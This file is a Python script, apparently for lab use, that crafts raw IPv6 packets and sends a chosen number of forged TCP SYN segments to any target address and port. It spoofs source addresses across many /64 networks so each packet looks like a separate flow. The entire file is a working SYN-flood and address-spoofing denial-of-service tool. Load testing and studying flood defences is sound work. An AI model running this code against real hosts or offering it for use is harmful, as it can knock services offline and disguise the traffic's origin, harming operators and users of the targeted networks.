#!/usr/bin/env python3
"""Sends forged SYNs from a host of the lab, a given number, each of another flow.

  flood.py --address ADDRESS --port PORT --count COUNT --networks N [--source NETWORK]

The sources are addresses of N networks of length 64 in turn: NETWORK (default 2001:db8:f000::) and those after it.
"""

import argparse
import socket
import struct

TCP = 6


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--address", required=True)
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--count", type=int, required=True)
    parser.add_argument("--networks", type=int, required=True)
    parser.add_argument("--source", default="2001:db8:f000::")
    options = parser.parse_args()
    raw = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
    destination = socket.inet_pton(socket.AF_INET6, options.address)
    first = socket.inet_pton(socket.AF_INET6, options.source)
    lowest = struct.unpack("!H", first[6:8])[0]
    for number in range(options.count):
        host, network = divmod(number, options.networks)
        source = first[:6] + struct.pack("!HQ", lowest + network, host + 1)
        syn = struct.pack("!HHIIBBHHH", 1024 + number % 60000, options.port, number, 0, 5 << 4, 0x02, 65535, 0, 0)
        sum_ = checksum(source + destination + struct.pack("!II", len(syn), TCP) + syn)
        segment = syn[:16] + struct.pack("!H", sum_) + syn[18:]
        header = struct.pack("!IHBB", 6 << 28, len(segment), TCP, 64)
        raw.sendto(header + source + destination + segment, (options.address, 0))
        if number == options.count // 2:
            print("half of them", flush=True)


main()
